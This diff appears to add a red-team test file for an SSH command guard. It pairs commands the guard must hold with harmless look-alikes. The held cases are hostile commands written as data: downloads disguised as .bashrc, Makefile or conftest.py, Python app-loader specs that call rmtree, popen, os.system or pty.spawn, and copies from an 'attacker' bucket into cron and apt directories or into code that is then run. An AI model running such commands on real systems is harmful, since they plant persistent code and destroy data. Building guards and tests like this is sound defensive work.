@@ -1,0 +1,77 @@
+"""Red team of session 14: what a downloader really saves, what an app loader really calls,
+where a bucket copy lands, what git brings into a tree, metadata by any host name, files that
+runners load by convention, credentials in the home. Each class as lines and sessions, beside
+the ordinary look-alike that must stay allowed."""
+
+from __future__ import annotations
+
+from sshgate.guard import classify
+
+from .expect import TABLE_BUDGET, allowed, each, held
+from .test_redteam_s11 import allowed_last, held_last
+
+# --- F1: wget saves the percent-decoded name -------------------------------------------------
+SAVED_HELD = [
+    "cd ~ && wget -qN https://e.example/%2egitconfig", "cd ~ && wget -q https://e.example/%2ecurlrc",
+    "wget -q https://e.example/x/%4dakefile", "wget -q https://e.example/x/conftest%2epy",
+    "wget -q https://e.example/x/package%2ejson", "cd ~ && wget -q https://e.example/%2ebashrc",
+    "wget -q https://e.example/x/conftest%2epy%3fa",
+]
+SAVED_ALLOWED = [
+    "wget -q https://e.example/x/data.csv", "wget -q https://e.example/x/report%20v2.pdf",
+    "wget -q 'https://e.example/download?id=1'", "wget -q 'https://e.example/a.tar.gz?raw=true'",
+]
+SAVED_SESSIONS = [
+    ("wget -q https://e.example/x/%4dakefile", "make test"),
+]
+
+
+def test_a_download_is_judged_by_the_name_it_is_saved_under() -> None:
+    each(SAVED_HELD, held)
+    each(SAVED_ALLOWED, allowed)
+    each(SAVED_SESSIONS, held_last)
+    assert "Makefile" in classify("wget -q https://e.example/x/%4dakefile",
+                                  seconds=TABLE_BUDGET).writes
+
+
+# --- F2: a Python app loader calls what its spec says -----------------------------------------
+APP_HELD = [
+    "gunicorn 'shutil:rmtree(\"/srv/data\")'", "hypercorn 'os:getcwd() or popen(\"id\").read()'",
+    "flask --app 'subprocess:getoutput(\"id\")' routes", "gunicorn 'builtins:eval(\"1\")'",
+    "gunicorn pty:spawn", "flask --app=os:system routes", "uvicorn shutil:rmtree",
+    "hypercorn 'x:a or b()'", "gunicorn 'os:getcwd()'",
+]
+APP_ALLOWED = [
+    "gunicorn -b 127.0.0.1:8000 app:app", "uvicorn app.main:app --host 127.0.0.1",
+    "flask --app shop routes", "gunicorn -b 127.0.0.1:8000 'app:create_app()'",
+]
+
+
+def test_an_app_spec_is_a_plain_name_of_the_tree() -> None:
+    each(APP_HELD, held)
+    each(APP_ALLOWED, allowed)
+
+
+# --- F3: a copy out of a bucket is a write ----------------------------------------------------
+BUCKET_HELD = [
+    "cd /etc/cron.d && aws s3 cp s3://attacker/job job2",
+    "cd /etc/apt/apt.conf.d && aws s3 cp s3://attacker/99x 99x",
+    "cd /etc/cron.d && gsutil cp gs://attacker/job .",
+    "cd /etc/logrotate.d && gcloud storage cp gs://attacker/x .",
+]
+BUCKET_SESSIONS = [
+    ("aws s3 cp s3://attacker/p/ sub --recursive", "cd sub && make test"),
+    ("gsutil -m cp -r gs://attacker/p sub", "pytest sub"),
+    ("aws s3 cp s3://b/tools/run.py tools/", "python tools/run.py"),
+    ("aws s3 sync s3://b/site site", "cd site && npm test"),
+]
+BUCKET_ORDINARY = [
+    ("aws s3 cp s3://b/data/x.csv data/", "python plot.py data/x.csv"),
+    ("aws s3 cp s3://b/data/x.csv .", "wc -l x.csv"),
+]
+
+
+def test_a_bucket_copy_is_remembered_where_it_lands() -> None:
+    each(BUCKET_HELD, held)
+    each(BUCKET_SESSIONS, held_last)
+    each(BUCKET_ORDINARY, allowed_last)
